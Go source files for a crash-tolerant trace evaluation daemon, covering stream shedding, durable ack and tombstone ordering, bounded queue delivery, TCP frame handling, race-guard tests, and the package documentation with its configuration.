// atomically with the state flip, under st.mu, so no concurrent accept
// can slip a chunk between the classification and the state change.
//
// The tombstone is written BEFORE the removals — it is the shed's
// durable commit point. The old order (remove first) had a crash
// window that silently destroyed acked chunks: with the spool gone and
// no tombstone yet, recovery saw a mid-upload stream with zero valid
// acks and resumed it empty, losing every acked chunk with no
// accounting. With tombstone-first, a crash before it resumes the
// upload intact (nothing lost), and a crash after it replays as a shed
// with the leftovers removed by recovery. If the tombstone write
// itself fails, the data files are deliberately kept.
// Caller holds s.mu.
func (s *Service) shedLocked(st *stream, reason ShedReason) {
	st.mu.Lock()
	if st.state != StateOpen && st.state != StateFinishing {
		st.mu.Unlock()
		return
	}
	st.closeFiles()
	chunks, bytes := st.chunks, st.bytes
	st.state = StateShed
	st.reason = string(reason)
	s.ledger.Shed(reason, chunks)
	s.spoolBytes.Add(-bytes)
	st.mu.Unlock()

	if err := writeJSONFile(s.fs, st.path(shedFile), &shedRecord{Reason: reason, Chunks: chunks}); err != nil {
		s.cfg.logf("serve: writing shed tombstone for %s: %v (spool kept)", st.name, err)
	} else {
		s.fs.Remove(st.path(spoolFile))
		s.fs.Remove(st.path(ackFile))
	}
	s.updateGauges()
	s.cfg.logf("serve: stream %s shed (%s): %d chunks dropped", st.name, reason, chunks)
	go st.publish(Event{Kind: EventFailed, Payload: []byte("stream shed: " + string(reason))})
}

// Finish closes the named stream's upload, verifies the declared
// totals, validates the assembled spool as IDT2, and delivers the
// stream into the bounded evaluation queue. A full queue rejects with
// Retry-After — the chunks stay pending and durable, and the client
// retries Finish. Totals that disagree with the ack journal shed the
// stream (protocol); an unreadable spool sheds it (corrupt).
func (s *Service) Finish(name string, declChunks uint64, declBytes int64) error {
	s.mu.Lock()
	st, ok := s.streams[name]
	if !ok {
		s.mu.Unlock()
		return &ProtocolError{Msg: fmt.Sprintf("unknown stream %q", name)}
	}
	if s.draining || s.closed {
		s.mu.Unlock()
		return &RejectError{Reason: "draining", RetryAfter: s.cfg.RetryAfter}
	}

	st.mu.Lock()
	switch st.state {
	case StateOpen, StateFinishing:
		// StateFinishing means an earlier Finish attempt failed after
		// closing the upload (plan write error, queue-full retry after a
		// crash window): re-verify and redo the remaining steps.
	case StateQueued, StateRunning, StateDone:
		st.mu.Unlock()
		s.mu.Unlock()
		return nil // finish is idempotent once delivered
	default:
		state := st.state
		st.mu.Unlock()
		s.mu.Unlock()
		return &ProtocolError{Msg: fmt.Sprintf("stream %s is %s", name, state)}
	}
	if st.chunks != declChunks || st.bytes != declBytes {
		msg := fmt.Sprintf("stream %s: finish declared %d chunks / %d bytes, server acked %d / %d",
			name, declChunks, declBytes, st.chunks, st.bytes)
		st.mu.Unlock()
		s.shedLocked(st, ShedProtocol)
		s.mu.Unlock()
		return &ProtocolError{Msg: msg}
	}
	if st.chunks == 0 && !st.meta.Evals {
		st.mu.Unlock()
		s.mu.Unlock()
		return &ProtocolError{Msg: fmt.Sprintf("stream %s: empty stream with no evals requested", name)}
	}
	// Check the queue before committing the transition so a full queue
	// leaves the stream uploadable (or retryable) and the client's
	// chunks pending and durable.
	if len(s.queue) >= s.cfg.QueueDepth {
		st.mu.Unlock()
		s.mu.Unlock()
		return &RejectError{Reason: "evaluation queue full", RetryAfter: s.cfg.RetryAfter}
	}
	st.closeFiles()
	st.state = StateFinishing
	st.lastActive = time.Now()
	chunks, bytes := st.chunks, st.bytes
	st.mu.Unlock()
	s.mu.Unlock()

	// Validate the assembled spool end to end before promising an
	// evaluation: wire checksums guard transport, this guards assembly.
	if chunks > 0 {
		if err := validateSpool(st.path(spoolFile)); err != nil {
			s.mu.Lock()
			s.shedCorruptLocked(st, chunks, bytes)
			s.mu.Unlock()
			return &ProtocolError{Msg: fmt.Sprintf("stream %s: spool failed IDT2 validation: %v", name, err)}
		}
	}

	spec := &campaign.Spec{
		Name:        name,
		Seed:        st.meta.Seed,
		Quick:       st.meta.Quick,
		Products:    st.meta.Products,
		Evals:       st.meta.Evals,
		Sensitivity: st.meta.Sensitivity,
	}
	if chunks > 0 {
		spec.Traces = []string{st.path(spoolFile)}
	}
	if err := campaign.SavePlanFS(s.fs, st.path(campaignDir), spec); err != nil {
		return fmt.Errorf("serve: planning campaign for %s: %w", name, err)
	}

	// Delivery commit. Re-take the locks and re-verify everything the
	// unlocked validation window could have invalidated: the stream may
	// have been shed (idle reaper) — delivering already-shed chunks would
	// double-book them — and concurrent Finishes may have filled the
	// queue, so the depth check at admission alone would let N callers
	// overshoot the bound by N-1. finish.json is written under s.mu so
	// the re-check and the durable commit are atomic against other
	// Finish calls; once it is durable, a restart re-queues the stream
	// and the chunks stay classified delivered.
	s.mu.Lock()
	st.mu.Lock()
	if st.state != StateFinishing {
		state := st.state
		st.mu.Unlock()
		s.mu.Unlock()
		return &ProtocolError{Msg: fmt.Sprintf("stream %s was %s at delivery", name, state)}
	}
	st.mu.Unlock()
	// Under s.mu the state can no longer change: every shed path runs
	// with s.mu held, and evaluation transitions only touch queued
	// streams — this one is not queued yet.
	if len(s.queue) >= s.cfg.QueueDepth {
		s.mu.Unlock()
		return &RejectError{Reason: "evaluation queue full", RetryAfter: s.cfg.RetryAfter}
	}
	if err := writeJSONFile(s.fs, st.path(finishFile), &finishRecord{Chunks: chunks, Bytes: bytes}); err != nil {
		s.mu.Unlock()
		return err
	}
	st.mu.Lock()
	st.state = StateQueued
	s.spoolBytes.Add(-bytes)
	st.mu.Unlock()
	s.queue = append(s.queue, st)
	s.ledger.Deliver(chunks)
	s.updateGauges()
	s.cond.Signal()
	s.mu.Unlock()
	s.cfg.logf("serve: stream %s delivered: %d chunks, %d bytes", name, chunks, bytes)
	return nil
}

// shedCorruptLocked tombstones a stream whose spool failed validation
// after its upload was already closed. Guarded by state like shedLocked:
// if something else shed the stream during Finish's unlocked validation
// window, its chunks and budget are already booked and this is a no-op —
// without the guard the same chunks would be shed twice and the budget
// subtracted twice. Caller holds s.mu.
func (s *Service) shedCorruptLocked(st *stream, chunks uint64, bytes int64) {
	st.mu.Lock()
	if st.state != StateOpen && st.state != StateFinishing {
		st.mu.Unlock()
		return
	}
	st.state = StateShed
	st.reason = string(ShedCorrupt)
	s.ledger.Shed(ShedCorrupt, chunks)
	s.spoolBytes.Add(-bytes)
	st.mu.Unlock()
	// Tombstone first, removals second — same commit discipline and
	// same crash-window reasoning as shedLocked.
	if err := writeJSONFile(s.fs, st.path(shedFile), &shedRecord{Reason: ShedCorrupt, Chunks: chunks}); err != nil {
		s.cfg.logf("serve: writing shed tombstone for %s: %v (spool kept)", st.name, err)
	} else {
		s.fs.Remove(st.path(spoolFile))
		s.fs.Remove(st.path(ackFile))
	}
	s.updateGauges()
	go st.publish(Event{Kind: EventFailed, Payload: []byte("stream shed: " + string(ShedCorrupt))})
}

// validateSpool fully decodes the spool as an IDT2 stream.
func validateSpool(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	rd, err := trace.NewReader(f)
	if err != nil {
		return err
	}
	for {
		if _, err := rd.Next(); err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return err
		}
	}
}

// worker drains the evaluation queue until the service closes. Workers
// stop picking up new streams while draining; queued streams persist on
// disk and resume after restart.
func (s *Service) worker() {
	defer s.wg.Done()
	for {
		s.mu.Lock()
		for len(s.queue) == 0 && !s.closed && !s.draining {
			s.cond.Wait()
		}
		if s.closed || s.draining {
			s.mu.Unlock()
			return
		}
		st := s.queue[0]
		s.queue = s.queue[1:]
		s.inflight++
		s.updateGauges()
		s.mu.Unlock()

		s.evaluate(st)

		s.mu.Lock()
		s.inflight--
		s.cond.Broadcast() // wake Drain waiters
		s.mu.Unlock()
	}
}

// evaluate runs one stream's campaign to completion, streaming
// incremental Result events from the runner's commit hook and ending
// the feed with the rendered scorecard. Cancellation (drain or close)
// re-queues the stream logically: its finish.json re-enters the queue
// on the next Open, and the campaign journal resumes where it stopped.
func (s *Service) evaluate(st *stream) {
	st.mu.Lock()
	st.state = StateRunning
	st.mu.Unlock()
	s.updateGaugesLocked()
	s.cfg.logf("serve: stream %s evaluating", st.name)

	runner := &campaign.Runner{
		Dir:          st.path(campaignDir),
		FS:           s.fs,
		Workers:      1,
		MaxAttempts:  s.cfg.MaxAttempts,
		Backoff:      s.cfg.Backoff,
		StallTimeout: s.cfg.StallTimeout,
		Obs:          s.cfg.Obs,
		Log:          s.cfg.Log,
		OnCommit: func(ex campaign.Experiment, res *campaign.Result) {
			st.publish(Event{Kind: EventResult, Payload: resultEvent(ex, res)})
		},
		OnEvalSnapshot: func(product string, snap *obs.Snapshot) {
			s.snapMu.Lock()
			s.evalSnaps[product] = snap
			s.snapMu.Unlock()
		},
	}
	_, err := runner.Run(s.runCtx)
	if s.runCtx.Err() != nil {
		// Shutdown, not verdict: back to queued for the next process.
		st.mu.Lock()
		st.state = StateQueued
		st.mu.Unlock()
		return
	}
	if err != nil {
		st.mu.Lock()
		chunks := st.chunks
		st.state = StateFailed
		st.reason = err.Error()
		st.mu.Unlock()
		if werr := writeJSONFile(s.fs, st.path(failedFile), &failRecord{Error: err.Error(), Chunks: chunks}); werr != nil {
			s.cfg.logf("serve: writing failure record for %s: %v", st.name, werr)
		}
		s.countObs("serve.streams.failed")
		s.updateGaugesLocked()
		s.cfg.logf("serve: stream %s failed: %v", st.name, err)
		st.publish(Event{Kind: EventFailed, Payload: []byte(err.Error())})
		return
	}

	card, rerr := renderScorecard(st.path(campaignDir))
	if rerr != nil {
		st.mu.Lock()
		st.state = StateFailed
		st.reason = rerr.Error()
		st.mu.Unlock()
		s.countObs("serve.streams.failed")
		st.publish(Event{Kind: EventFailed, Payload: []byte(rerr.Error())})
		return
	}
	if err := fsio.WriteAtomicFS(s.fs, st.path(scorecardFile), func(w io.Writer) error {
		_, werr := w.Write(card)
		return werr
	}); err != nil {
		st.mu.Lock()
		st.state = StateFailed
		st.reason = err.Error()
		st.mu.Unlock()
		st.publish(Event{Kind: EventFailed, Payload: []byte(err.Error())})
		return
	}
	st.mu.Lock()
	st.state = StateDone
	st.mu.Unlock()
	s.countObs("serve.streams.done")
	s.updateGaugesLocked()
	s.cfg.logf("serve: stream %s done", st.name)
	st.publish(Event{Kind: EventScorecard, Payload: card})
	st.publish(Event{Kind: EventComplete})
}

// renderScorecard renders the campaign report purely from the plan and
// persisted results — the path that makes interrupted-and-resumed
// scorecards byte-identical to uninterrupted ones.
func renderScorecard(dir string) ([]byte, error) {
	state, err := campaign.Load(dir)
	if err != nil {
		return nil, err
	}
	var buf bytes.Buffer
	if err := report.CampaignReport(&buf, state, core.StandardRegistry()); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// reaper enforces the per-stream idle deadline: open streams that
// stopped sending — and finishing streams whose client never retried a
// rejected delivery — are shed (reason idle) so abandoned uploads
// cannot hold spool budget forever. A reaped finishing stream cannot
// corrupt an in-flight Finish: its delivery commit re-checks the state
// under both locks and refuses to deliver shed chunks.
func (s *Service) reaper() {
	defer s.wg.Done()
	tick := time.NewTicker(s.cfg.IdleExpiry / 4)
	defer tick.Stop()
	for {
		select {
		case <-s.runCtx.Done():
			return
		case <-tick.C:
			deadline := time.Now().Add(-s.cfg.IdleExpiry)
			s.mu.Lock()
			for _, st := range s.streams {
				st.mu.Lock()
				expired := (st.state == StateOpen || st.state == StateFinishing) &&
					st.lastActive.Before(deadline)
				st.mu.Unlock()
				if expired {
					s.shedLocked(st, ShedIdle)
				}
			}
			s.mu.Unlock()
		}
	}
}

// Drain stops accepting work and waits for in-flight evaluations to
// finish, bounded by ctx: on expiry the evaluations are cancelled hard
// (their campaign journals stay consistent and they resume on the next
// Open). Always leaves the service closed.
func (s *Service) Drain(ctx context.Context) error {
	s.mu.Lock()
	s.draining = true
	s.cond.Broadcast()
	s.mu.Unlock()
	s.cfg.logf("serve: draining")

	done := make(chan struct{})
	go func() {
		defer close(done)
		s.mu.Lock()
		for s.inflight > 0 {
			s.cond.Wait()
		}
		s.mu.Unlock()
	}()
	var derr error
	select {
	case <-done:
	case <-ctx.Done():
		derr = fmt.Errorf("serve: drain deadline: %d evaluations cancelled (they resume on restart)", s.Inflight())
	}
	s.Close()
	return derr
}

// Inflight returns the number of evaluations currently running.
func (s *Service) Inflight() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.inflight
}

// Close cancels everything and releases file handles. The on-disk
// state is always consistent — Close at any instant is equivalent to a
// crash, by construction.
func (s *Service) Close() {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return
	}
	s.closed = true
	s.cond.Broadcast()
	s.mu.Unlock()
	s.runCancel()
	s.wg.Wait()
	s.mu.Lock()
	for _, st := range s.streams {
		st.mu.Lock()
		st.closeFiles()
		st.mu.Unlock()
	}
	s.mu.Unlock()
}

// Health implements the httpexport health contract: draining beats
// everything; saturation (full queue, full stream table) or any shed
// within the trailing window reports degraded.
func (s *Service) Health() string {
	s.mu.Lock()
	draining := s.draining || s.closed
	queueFull := len(s.queue) >= s.cfg.QueueDepth
	tableFull := s.openStreams() >= s.cfg.MaxStreams
	s.mu.Unlock()
	switch {
	case draining:
		return httpexport.HealthDraining
	case queueFull || tableFull || s.ledger.ShedRecent(s.cfg.ShedWindow) > 0:
		return httpexport.HealthDegraded
	default:
		return httpexport.HealthOK
	}
}

// Counts snapshots the chunk ledger.
func (s *Service) Counts() Counts { return s.ledger.Counts() }

// Streams lists every known stream's status, sorted by name.
func (s *Service) Streams() []StreamStatus {
	s.mu.Lock()
	sts := make([]*stream, 0, len(s.streams))
	for _, st := range s.streams {
		sts = append(sts, st)
	}
	s.mu.Unlock()
	out := make([]StreamStatus, 0, len(sts))
	for _, st := range sts {
		out = append(out, st.status())
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Status returns one stream's status.
func (s *Service) Status(name string) (StreamStatus, bool) {
	s.mu.Lock()
	st, ok := s.streams[name]
	s.mu.Unlock()
	if !ok {
		return StreamStatus{}, false
	}
	return st.status(), true
}

// Scorecard returns a done stream's rendered scorecard.
func (s *Service) Scorecard(name string) ([]byte, error) {
	s.mu.Lock()
	st, ok := s.streams[name]
	s.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("serve: unknown stream %q", name)
	}
	status := st.status()
	if status.State != StateDone {
		return nil, fmt.Errorf("serve: stream %q is %s, scorecard not ready", name, status.State)
	}
	return os.ReadFile(st.path(scorecardFile))
}

// Subscribe attaches to a stream's result feed: the returned history
// replays everything published so far; ch (nil when the feed already
// ended) delivers live events until a terminal one closes it.
func (s *Service) Subscribe(name string) (history []Event, ch chan Event, cancel func(), err error) {
	s.mu.Lock()
	st, ok := s.streams[name]
	s.mu.Unlock()
	if !ok {
		return nil, nil, nil, fmt.Errorf("serve: unknown stream %q", name)
	}
	history, ch, cancel = st.subscribe()
	return history, ch, cancel, nil
}

// Progress is the /progress payload: ledger counts plus per-stream
// status.
func (s *Service) Progress() any {
	return struct {
		Counts  Counts         `json:"counts"`
		Streams []StreamStatus `json:"streams"`
	}{s.Counts(), s.Streams()}
}

// Snapshot merges the service registry with the latest per-product
// evaluation snapshots (prefixed eval.<product>.) — the daemon's live
// /metrics feed.
func (s *Service) Snapshot() *obs.Snapshot {
	m := &obs.Snapshot{}
	if s.cfg.Obs != nil {
		m.Merge(s.cfg.Obs.Snapshot())
	}
	s.snapMu.Lock()
	products := make([]string, 0, len(s.evalSnaps))
	for p := range s.evalSnaps {
		products = append(products, p)
	}
	sort.Strings(products)
	for _, p := range products {
		m.Merge(s.evalSnaps[p].Prefixed("eval." + p + "."))
	}
	s.snapMu.Unlock()
	// The storage layer's own health counters — dirsync errors, append
	// repairs — ride along so a degrading disk shows up on /metrics.
	m.Merge(obs.FSIOSnapshot())
	return m
}

func (s *Service) countObs(name string) {
	if s.cfg.Obs != nil {
		s.cfg.Obs.Counter(name).Inc()
	}
}

// updateGauges refreshes the stream/queue gauges. Caller holds s.mu.
func (s *Service) updateGauges() {
	if s.cfg.Obs == nil {
		return
	}
	s.cfg.Obs.Gauge("serve.queue.depth").Set(int64(len(s.queue)))
	s.cfg.Obs.Gauge("serve.streams.open").Set(int64(s.openStreams()))
	s.cfg.Obs.Gauge("serve.evals.inflight").Set(int64(s.inflight))
}

// updateGaugesLocked is updateGauges for callers not holding s.mu.
func (s *Service) updateGaugesLocked() {
	s.mu.Lock()
	s.updateGauges()
	s.mu.Unlock()
}

// resultEvent renders one committed experiment as the Result event
// payload: compact JSON summarizing the verdict without the scorecard
// blob.
func resultEvent(ex campaign.Experiment, res *campaign.Result) []byte {
	ev := struct {
		ID      string `json:"id"`
		Kind    string `json:"kind"`
		Product string `json:"product"`
	}{ex.ID, string(ex.Kind), ex.Product}
	b, err := json.Marshal(ev)
	if err != nil {
		return []byte(`{"id":` + fmt.Sprintf("%q", ex.ID) + `}`)
	}
	return b
}
