package serve

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"time"

	"repro/internal/trace"
)

// Wire payloads for the ISF2 control frames. Everything is small JSON;
// the bulk path (Data frames) is raw bytes.
type helloAck struct {
	Next  uint32 `json:"next"`
	State string `json:"state"`
}

type ackInfo struct {
	Next uint32 `json:"next"`
}

type rejectInfo struct {
	Reason       string `json:"reason"`
	RetryAfterMs int64  `json:"retry_after_ms"`
}

type errorInfo struct {
	Error string `json:"error"`
	// Next, when nonzero, is the ordinal the server expects — the
	// client's resynchronization point after an ordering violation.
	Next uint32 `json:"next,omitempty"`
}

type finishReq struct {
	Chunks uint64 `json:"chunks"`
	Bytes  int64  `json:"bytes"`
}

// ServeTCP accepts stream connections on ln until the listener closes
// (the daemon closes it when its signal context cancels). Each
// connection is one stream dialogue: Hello, Data*, Finish, then the
// result feed streamed back until Complete.
func (s *Service) ServeTCP(ln net.Listener) error {
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("serve: accept: %w", err)
		}
		go s.handleConn(conn)
	}
}

// handleConn drives one connection. Single-goroutine by design: during
// ingest only the client talks, during the result feed only the server
// does, so no write lock is needed. Every read and write carries a
// ConnTimeout deadline — a stalled peer is disconnected, and its acked
// chunks stay durable for resume.
func (s *Service) handleConn(conn net.Conn) {
	defer conn.Close()
	fr := trace.NewFrameReader(bufio.NewReaderSize(conn, 64<<10), s.cfg.MaxFrameBytes)
	fw := trace.NewFrameWriter(conn)

	writeFrame := func(typ byte, ord uint32, payload []byte) error {
		conn.SetWriteDeadline(time.Now().Add(s.cfg.ConnTimeout))
		return fw.Write(typ, ord, payload)
	}
	writeJSON := func(typ byte, ord uint32, v any) error {
		b, err := json.Marshal(v)
		if err != nil {
			return err
		}
		return writeFrame(typ, ord, b)
	}
	// sendErr maps a service error onto the wire: RejectError → Reject
	// frame (retryable), anything else → Error frame.
	sendErr := func(ord uint32, err error) {
		var re *RejectError
		var pe *ProtocolError
		switch {
		case errors.As(err, &re):
			writeJSON(trace.FrameReject, ord, rejectInfo{Reason: re.Reason, RetryAfterMs: re.RetryAfter.Milliseconds()})
		case errors.As(err, &pe):
			writeJSON(trace.FrameError, ord, errorInfo{Error: pe.Msg, Next: pe.Next})
		default:
			writeJSON(trace.FrameError, ord, errorInfo{Error: err.Error()})
		}
	}

	readFrame := func() (trace.Frame, error) {
		conn.SetReadDeadline(time.Now().Add(s.cfg.ConnTimeout))
		return fr.Next()
	}

	// Dialogue opening: exactly one Hello.
	f, err := readFrame()
	if err != nil {
		return
	}
	if f.Type != trace.FrameHello {
		sendErr(f.Ordinal, &ProtocolError{Msg: "first frame must be Hello"})
		return
	}
	var meta StreamMeta
	if err := json.Unmarshal(f.Payload, &meta); err != nil {
		sendErr(f.Ordinal, &ProtocolError{Msg: "malformed hello metadata: " + err.Error()})
		return
	}
	info, err := s.Hello(meta)
	if err != nil {
		sendErr(f.Ordinal, err)
		return
	}
	if err := writeJSON(trace.FrameAck, f.Ordinal, helloAck{Next: info.Next, State: info.State}); err != nil {
		return
	}
	// Reattaching to a stream already past upload: jump straight to the
	// result feed.
	if info.State != StateOpen {
		s.streamEvents(conn, writeFrame, writeJSON, meta.Name)
		return
	}

	// Ingest loop: Data frames until Finish.
	for {
		f, err := readFrame()
		if err != nil {
			var de *trace.FrameDecodeError
			if errors.As(err, &de) {
				sendErr(de.Ordinal, &ProtocolError{Msg: de.Error()})
			}
			return
		}
		switch f.Type {
		case trace.FrameData:
			ai, aerr := s.Accept(meta.Name, f.Ordinal, f.Payload)
			if aerr != nil {
				sendErr(f.Ordinal, aerr)
				// Reject and ordering errors are recoverable in-stream;
				// anything else ends the connection.
				var re *RejectError
				var pe *ProtocolError
				if !errors.As(aerr, &re) && !errors.As(aerr, &pe) {
					return
				}
				continue
			}
			if err := writeJSON(trace.FrameAck, f.Ordinal, ackInfo{Next: ai.Next}); err != nil {
				return
			}
		case trace.FrameFinish:
			var req finishReq
			if err := json.Unmarshal(f.Payload, &req); err != nil {
				sendErr(f.Ordinal, &ProtocolError{Msg: "malformed finish: " + err.Error()})
				return
			}
			if ferr := s.Finish(meta.Name, req.Chunks, req.Bytes); ferr != nil {
				sendErr(f.Ordinal, ferr)
				var re *RejectError
				if errors.As(ferr, &re) {
					continue // queue full: client backs off and re-finishes
				}
				return
			}
			if err := writeJSON(trace.FrameAck, f.Ordinal, ackInfo{Next: uint32(req.Chunks)}); err != nil {
				return
			}
			s.streamEvents(conn, writeFrame, writeJSON, meta.Name)
			return
		default:
			sendErr(f.Ordinal, &ProtocolError{Msg: fmt.Sprintf("unexpected frame type %d during ingest", f.Type)})
			return
		}
	}
}

// streamEvents replays the stream's result feed onto the connection:
// history first, then live events until a terminal one. Result events
// become Result frames, the scorecard its own frame, and the feed ends
// with Complete (success) or Error (failure/shed).
func (s *Service) streamEvents(conn net.Conn,
	writeFrame func(byte, uint32, []byte) error,
	writeJSON func(byte, uint32, any) error, name string) {
	history, ch, cancel, err := s.Subscribe(name)
	if err != nil {
		writeJSON(trace.FrameError, 0, errorInfo{Error: err.Error()})
		return
	}
	defer cancel()
	var seq uint32
	emit := func(ev Event) bool {
		defer func() { seq++ }()
		switch ev.Kind {
		case EventResult:
			return writeFrame(trace.FrameResult, seq, ev.Payload) == nil
		case EventScorecard:
			return writeFrame(trace.FrameScorecard, seq, ev.Payload) == nil
		case EventComplete:
			writeFrame(trace.FrameComplete, seq, nil)
			return false
		case EventFailed:
			writeJSON(trace.FrameError, seq, errorInfo{Error: string(ev.Payload)})
			return false
		}
		return true
	}
	for _, ev := range history {
		if !emit(ev) {
			return
		}
	}
	if ch == nil {
		return
	}
	for {
		select {
		case ev, ok := <-ch:
			if !ok {
				// Feed dropped us (slow consumer) or the service is
				// closing; the client re-subscribes or polls HTTP.
				writeJSON(trace.FrameError, seq, errorInfo{Error: "event feed interrupted; re-subscribe"})
				return
			}
			if !emit(ev) {
				return
			}
		case <-s.runCtx.Done():
			writeJSON(trace.FrameError, seq, errorInfo{Error: "server shutting down; results resume after restart"})
			return
		}
	}
}
