package serve

// White-box tests for the shed/Finish race guards: a StateFinishing
// stream sits inside some Finish call's unlocked validation window
// (spool being read, delivery about to commit), so shedding it there
// would either double-book its chunks or deliver already-shed ones.
// The external soak test exercises these windows statistically; these
// pin the guards deterministically.

import (
	"testing"
	"time"
)

func openRawService(t *testing.T) *Service {
	t.Helper()
	svc, err := Open(Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(svc.Close)
	return svc
}

func acceptOne(t *testing.T, svc *Service, name string, payload []byte) *stream {
	t.Helper()
	if _, err := svc.Hello(StreamMeta{Name: name}); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Accept(name, 0, payload); err != nil {
		t.Fatal(err)
	}
	svc.mu.Lock()
	st := svc.streams[name]
	svc.mu.Unlock()
	return st
}

// The overload victim search must skip finishing streams even when one
// is by far the idlest.
func TestOverloadShedSkipsFinishingStreams(t *testing.T) {
	svc := openRawService(t)
	payload := []byte("0123456789")
	fin := acceptOne(t, svc, "fin", payload)
	open := acceptOne(t, svc, "open", payload)

	fin.mu.Lock()
	fin.state = StateFinishing
	fin.lastActive = time.Now().Add(-time.Hour)
	fin.mu.Unlock()

	svc.mu.Lock()
	svc.shedIdlestLocked(nil)
	svc.mu.Unlock()

	if got := fin.status().State; got != StateFinishing {
		t.Fatalf("finishing stream was shed (state %s); it must never be an overload victim", got)
	}
	if got := open.status().State; got != StateShed {
		t.Fatalf("open stream state = %s, want shed (the only eligible victim)", got)
	}
	if got := svc.spoolBytes.Load(); got != int64(len(payload)) {
		t.Fatalf("spoolBytes = %d after shedding one of two %d-byte streams, want %d",
			got, len(payload), len(payload))
	}
	if err := svc.Counts().Check(); err != nil {
		t.Fatal(err)
	}
}

// shedCorruptLocked fires from Finish's validation-failure path after
// the locks were dropped; if the stream was already shed in that window
// it must be a no-op, not a second shed (which would double-subtract
// the spool budget and double-book the chunks).
func TestShedCorruptIsNoOpOnAlreadyShedStream(t *testing.T) {
	svc := openRawService(t)
	payload := []byte("0123456789")
	st := acceptOne(t, svc, "victim", payload)

	st.mu.Lock()
	st.state = StateFinishing
	st.mu.Unlock()

	svc.mu.Lock()
	svc.shedLocked(st, ShedIdle)
	svc.shedCorruptLocked(st, 1, int64(len(payload)))
	svc.mu.Unlock()

	c := svc.Counts()
	if err := c.Check(); err != nil {
		t.Fatal(err)
	}
	if c.Shed[ShedIdle] != 1 || c.Shed[ShedCorrupt] != 0 {
		t.Fatalf("shed counters = %v, want exactly one idle shed and no corrupt shed", c.Shed)
	}
	if got := svc.spoolBytes.Load(); got != 0 {
		t.Fatalf("spoolBytes = %d after one shed of the only stream, want 0 (double subtraction)", got)
	}
}

// Finish's delivery commit re-checks the stream state under both locks:
// a stream shed out of the finishing window (idle reaper) must not be
// delivered on top of its shed booking.
func TestFinishRefusesDeliveryOfStreamShedMidWindow(t *testing.T) {
	svc := openRawService(t)
	payload := []byte("0123456789")
	st := acceptOne(t, svc, "victim", payload)

	// Shed the stream as the reaper would, then drive Finish with the
	// acked totals. Finish sees a terminal state and must refuse rather
	// than re-validate or deliver.
	svc.mu.Lock()
	svc.shedLocked(st, ShedIdle)
	svc.mu.Unlock()

	err := svc.Finish("victim", 1, int64(len(payload)))
	if err == nil {
		t.Fatal("Finish delivered a shed stream")
	}
	c := svc.Counts()
	if cerr := c.Check(); cerr != nil {
		t.Fatal(cerr)
	}
	if c.Delivered != 0 || c.Shed[ShedIdle] != 1 {
		t.Fatalf("counts = %+v, want the chunk shed once and never delivered", c)
	}
}
