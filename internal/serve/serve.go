// Package serve is idsevald's engine: a crash-tolerant online
// evaluation service that accepts IDT2 traces as chunked streams,
// evaluates them against the product matrix through the durable
// campaign runner, and streams incremental results and the final
// scorecard back to the submitter.
//
// The package holds three contracts the daemon is built around:
//
//   - Exact shed accounting. Every chunk a client submits ends in
//     exactly one ledger class — delivered, rejected, duplicate,
//     pending, or one shed-reason counter — at every instant, including
//     across a kill -9. Counts.Check is the machine-checkable
//     invariant; the overload soak test holds it under sustained
//     rejection pressure.
//
//   - Ack-is-durable. A chunk is acked only after its payload is
//     appended to the stream's spool and fsynced AND its ack-journal
//     line is appended and fsynced, in that order. A restart replays
//     the ack journal's valid prefix (tolerating a torn tail and a
//     spool that ran ahead of the journal), so the Hello response's
//     "next" ordinal tells the client exactly where to resume — acked
//     work is never re-uploaded and never lost.
//
//   - Byte-identical recovery. Accepted streams are evaluated through
//     internal/campaign, whose journal line is the commit point; a
//     daemon killed at any instant and restarted re-runs only the
//     missing experiments and renders a scorecard byte-identical to an
//     uninterrupted run (cmd/chaossmoke pins this end to end).
//
// Backpressure is explicit rather than implicit: admission control caps
// open streams, the evaluation queue is bounded, and the spool has a
// byte budget. Work beyond any limit is refused synchronously with a
// Retry-After hint (the client backs off and retries), or — when the
// pressure comes from streams that went idle holding spool space — shed
// with its reason accounted.
package serve

import (
	"fmt"
	"io"
	"time"

	"repro/internal/fsio"
	"repro/internal/obs"
)

// Config configures a Service. The zero value of every limit selects a
// sensible default; Dir is the only required field.
type Config struct {
	// Dir is the service's durable root; streams live in Dir/streams.
	Dir string
	// MaxStreams caps concurrently open (still uploading) streams
	// (default 32).
	MaxStreams int
	// QueueDepth bounds streams finished and waiting for an evaluation
	// worker (default 8). A full queue rejects Finish with Retry-After;
	// the chunks stay durable and pending.
	QueueDepth int
	// EvalWorkers is the number of concurrent stream evaluations
	// (default 2). Each evaluation runs its campaign with Workers=1, so
	// this is the daemon's total evaluation parallelism. -1 starts no
	// workers at all — torture and recovery tests use that to inspect
	// the post-recovery queue without evaluations racing ahead.
	EvalWorkers int
	// MaxSpoolBytes budgets the total spool bytes held by open streams
	// (default 256 MiB). An accept that would exceed it first sheds the
	// longest-idle other open stream (accounted shed.overload); if the
	// budget is still exceeded the chunk is rejected with Retry-After.
	MaxSpoolBytes int64
	// MaxFrameBytes caps a single frame payload on the wire (default
	// 4 MiB; hard-capped by trace.MaxFramePayload).
	MaxFrameBytes int
	// IdleExpiry is the per-stream deadline: an uploading stream (open,
	// or finishing with its delivery never retried) with no activity
	// for this long is shed (accounted shed.idle; default 10m).
	IdleExpiry time.Duration
	// StallTimeout is handed to the campaign runner's heartbeat
	// watchdog: an evaluation with no kernel heartbeat for this long is
	// cancelled and retried (default 2m, negative disables).
	StallTimeout time.Duration
	// MaxAttempts bounds evaluation attempts per experiment (default 2).
	MaxAttempts int
	// Backoff is the campaign runner's doubling retry backoff (default
	// 100ms).
	Backoff time.Duration
	// RetryAfter is the hint attached to backpressure rejections
	// (default 2s).
	RetryAfter time.Duration
	// ConnTimeout bounds each frame read and write on a TCP connection
	// (default 30s). A peer that stalls mid-frame is disconnected;
	// its acked chunks stay durable.
